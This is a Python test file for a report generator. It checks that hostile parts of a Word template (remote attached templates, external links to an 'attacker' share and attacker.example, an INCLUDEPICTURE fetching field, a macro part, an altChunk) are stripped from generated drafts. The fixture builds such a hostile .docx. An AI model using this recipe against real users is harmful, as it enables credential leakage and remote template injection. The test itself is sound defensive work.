"""Issue 21, finding 11: a template's external links, fetching fields, macros and altChunks never reach a draft."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx

from crc_reporter.reports.template_safety import (
    ATTACHED_TEMPLATE,
    EMBEDDED_CHUNK,
    EXTERNAL_LINK,
    FETCHING_FIELD,
    MACROS,
)
from crc_reporter.store.engine import Store
from tests.unit.reports.conftest import write

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _add_rels(xml: str, rels: list[str]) -> str:
    return xml.replace("</Relationships>", "".join(rels) + "</Relationships>")


def _hostile_template(path: Path) -> Path:
    """A letterhead whose package also carries everything Word would fetch or run on open."""
    template = docx.Document()
    section = template.sections[0]
    section.header.paragraphs[0].text = "LETTERHEAD"
    template.settings  # noqa: B018 - makes python-docx write word/settings.xml
    plain = io.BytesIO()
    template.save(plain)
    src = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name in src.namelist():
            data = src.read(name).decode("utf-8") if name.endswith((".xml", ".rels")) else src.read(name)
            if name == "word/_rels/document.xml.rels":
                data = _add_rels(
                    str(data),
                    [
                        f'<Relationship Id="rIdX1" Type="{REL}/image" Target="\\\\attacker\\share\\logo.png" '
                        'TargetMode="External"/>',
                        f'<Relationship Id="rIdX2" Type="{REL}/oleObject" Target="http://attacker.example/o.bin" '
                        'TargetMode="External"/>',
                        f'<Relationship Id="rIdX3" Type="{REL}/subDocument" Target="file:///C:/secret.docx" '
                        'TargetMode="External"/>',
                        f'<Relationship Id="rIdX4" Type="{MS_REL}/vbaProject" Target="vbaProject.bin"/>',
                        f'<Relationship Id="rIdX5" Type="{REL}/aFChunk" Target="chunk.html"/>',
                        f'<Relationship Id="rIdX6" Type="{REL}/hyperlink" Target="https://www.ohchr.org/" '
                        'TargetMode="External"/>',
                    ],
                )
            elif name == "[Content_Types].xml":
                data = str(data).replace(
                    "</Types>",
                    '<Default Extension="html" ContentType="text/html"/><Override PartName="/word/vbaProject.bin" '
                    'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            elif name.startswith("word/header") and name.endswith(".xml"):
                data = str(data).replace(
                    "</w:p>",
                    "</w:p><w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://attacker.example/p.png\" \\d '>"
                    "<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>",
                    1,
                )
            if name == "word/settings.xml":
                data = str(data).replace("<w:zoom", f'<w:attachedTemplate xmlns:r="{REL}" r:id="rIdT1"/><w:zoom', 1)
            z.writestr(name, data)
        z.writestr(
            "word/_rels/settings.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships"><Relationship Id="rIdT1" Type="{REL}/attachedTemplate" '
            'Target="\\\\attacker\\share\\normal.dotm" TargetMode="External"/></Relationships>',
        )
        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
        z.writestr("word/chunk.html", "<html><img src='http://attacker.example/x.png'></html>")
    path.write_bytes(out.getvalue())
    return path


def test_the_draft_keeps_nothing_fetched_or_run_on_open(demo_store: Store, tmp_path: Path) -> None:
    template = _hostile_template(tmp_path / "hostile.docx")
    assert b"attachedTemplate" in zipfile.ZipFile(template).read("word/settings.xml")
    result = write(demo_store, tmp_path, "state", template=template)
    assert set(result.template_removed) == {ATTACHED_TEMPLATE, EXTERNAL_LINK, FETCHING_FIELD, MACROS, EMBEDDED_CHUNK}
    with zipfile.ZipFile(result.path) as draft:
        names = draft.namelist()
        assert not any("vbaProject" in n or n.endswith(".html") for n in names)
        everything = "\n".join(draft.read(n).decode("utf-8", "replace") for n in names if n.endswith((".xml", ".rels")))
    externals = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', everything)
    assert all("/hyperlink" in rel for rel in externals)
    for mark in ("attacker", "INCLUDEPICTURE", "attachedTemplate", "altChunk", "aFChunk"):
        assert mark not in everything, mark
    assert "LETTERHEAD" in everything


def test_a_clean_template_reports_nothing_removed(demo_store: Store, tmp_path: Path) -> None:
    path = tmp_path / "plain.docx"
    docx.Document().save(path)
    assert write(demo_store, tmp_path, "state", template=path).template_removed == ()
